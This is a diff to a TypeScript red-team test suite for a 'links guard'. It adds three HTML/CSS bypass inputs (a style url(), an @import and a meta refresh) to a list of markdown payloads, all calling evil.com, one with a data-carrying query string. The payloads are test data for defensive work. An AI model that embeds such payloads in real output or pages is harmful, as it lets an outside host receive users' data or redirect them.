@@ -20,6 +20,9 @@ const BYPASSES: [string, string][] = [
   ['a reference definition with its URL on the next line', '![x][1]\n\n[1]:\n  https://evil.com/x'],
   ['a reference definition in a block quote', '![x][1]\n\n> [1]: https://evil.com/x'],
   ['a reference definition in a list item', '![x][1]\n\n- [1]: https://evil.com/x'],
+  ['a CSS url() in a style attribute', '<div style="background:url(https://evil.com/x?d=1)">hi</div>'],
+  ['a CSS @import', '<style>@import url("https://evil.com/a.css");</style>'],
+  ['a meta refresh', '<meta http-equiv="refresh" content="0; url=https://evil.com/x">'],
 ];
 
 describe('red team: the links guard', () => {
